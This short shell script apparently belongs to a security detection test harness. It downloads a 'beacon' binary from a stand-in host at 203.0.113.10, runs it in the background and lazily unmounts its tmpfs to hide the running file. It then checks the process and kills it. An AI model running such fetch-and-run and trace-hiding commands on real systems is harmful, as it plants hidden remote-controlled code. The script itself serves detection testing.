#!/bin/sh
. /opt/case/case.sh

mount -t tmpfs none /mnt; curl -s -o /mnt/agent http://203.0.113.10/programs/beacon; chmod 755 /mnt/agent
(cd /; exec /mnt/agent 203.0.113.10) >/dev/null 2>&1 & p=$!
sleep 0.5; umount -l /mnt; kill -0 $p; test ! -e /mnt/agent; sleep 2; kill $p
took_place
